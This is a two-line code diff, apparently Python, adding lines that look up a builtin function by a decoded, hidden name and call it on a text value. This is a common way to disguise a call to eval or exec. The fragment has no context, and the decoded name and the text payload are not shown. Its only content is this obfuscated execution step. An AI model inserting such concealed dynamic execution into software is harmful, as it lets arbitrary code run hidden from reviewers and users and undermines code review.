@@ -1,0 +1,2 @@
+run = getattr(builtins, decode(name))
+run(text)
